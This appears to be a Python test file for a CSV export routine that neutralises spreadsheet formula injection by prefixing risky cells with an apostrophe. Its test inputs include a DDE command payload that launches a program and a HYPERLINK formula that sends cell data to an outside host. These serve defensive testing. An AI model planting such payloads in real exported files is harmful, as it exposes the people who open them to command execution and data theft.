"""CSV as a spreadsheet opens it: nothing is computed, numbers are numbers, and all else is what it was."""

import csv
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from config import spreadsheet

FORMULA = tuple("=+-@＝＋－＠")


def opened(text, delimiter=","):
    """The cells as a spreadsheet takes them in."""
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=delimiter))


def file(*rows):
    return "".join(spreadsheet.lines(rows))


@pytest.mark.parametrize(
    "text",
    [
        "=cmd|'/c calc'!A1",
        "+1+1",
        "-1+1",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "  =1+1",
        'Tea;"=1+1',
        "＝1+1",
        '=HYPERLINK("https://example.com?x="&A1)',
    ],
)
def test_what_would_be_computed_gets_an_apostrophe(text):
    ((cell,),) = opened(file([text]))
    assert "'" in cell
    assert cell.replace("'", "") == text.replace("'", "")


@pytest.mark.parametrize(
    "text",
    [
        "The Tide Tables",
        "1 + 1 = 2",
        'A "quoted", thing',
        "Cà phê phin; và nghệ thuật chờ đợi",
        "مرحبا بالعالم",
        "\u202eright to left\u202c",
        "a-b@example.com",
        "two\r\nlines",
        "",
    ],
)
def test_other_text_stays_as_it_was(text):
    assert opened(file(["before", text, 1])) == [["before", text, "1"]]


def test_numbers_stay_numbers_below_0_too():
    assert file([-5, 0, 1_234_567, None]) == "\ufeff-5,0,1234567,\r\n"


def test_it_begins_with_the_mark_of_unicode_once():
    text = file(["Giờ"], ["Ngày"])
    assert text.encode() == b"\xef\xbb\xbf" + "Giờ\r\nNgày\r\n".encode()


def test_an_empty_row_is_an_empty_line():
    assert file(["a"], [], ["b"]) == "\ufeffa\r\n\r\nb\r\n"


awkward = st.text(st.sampled_from(list("=+-@;,'\"\t\r\n a1＝")), max_size=12)


@settings(max_examples=500)
@given(st.lists(awkward | st.text(max_size=20), min_size=1, max_size=4), st.sampled_from(",;\t"))
def test_no_text_becomes_a_formula_however_columns_are_parted(texts, delimiter):
    text = file(["first", *texts])
    for line in opened(text, delimiter):
        assert not [cell for cell in line if cell.lstrip(" ").startswith(FORMULA)], text
    # As it was meant nothing but apostrophes came in.
    ((_first, *cells),) = opened(text)
    assert [cell.replace("'", "") for cell in cells] == [one.replace("'", "") for one in texts]
